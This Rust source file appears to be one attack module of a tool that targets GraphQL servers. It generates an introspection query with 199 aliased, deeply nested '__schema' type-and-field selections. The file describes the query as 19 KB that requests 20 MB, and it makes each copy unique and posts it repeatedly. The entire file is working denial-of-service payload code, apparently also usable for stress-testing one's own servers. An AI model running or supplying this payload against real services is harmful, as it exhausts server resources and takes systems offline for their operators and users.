//! Introspection that follows cycles under many aliases: 19 KB that request 20 MB.

use std::fmt::Write;

use crate::Aim;
use crate::attack::{Attack, Class};

/// The attack.
pub(super) const ATTACK: Attack = Attack::new(
    Class::Query,
    "introspection",
    "200 aliases of `types { fields { type { fields { type …`, 19 KB",
    |aim| Box::pin(run(aim)),
);

async fn run(aim: Aim) {
    aim.posts(|number, round| {
        let mut query = String::from("{ __schema { ");
        for alias in 0..199 {
            let _ = write!(
                query,
                "a{alias}: types {{ fields {{ type {{ fields {{ type {{ fields {{ type {{ name }} }} }} }} }} }} }} "
            );
        }
        // A new text each time.
        let _ = write!(query, "}} }} # {number} {round}");
        crate::wire::operation(&query)
    })
    .await;
}
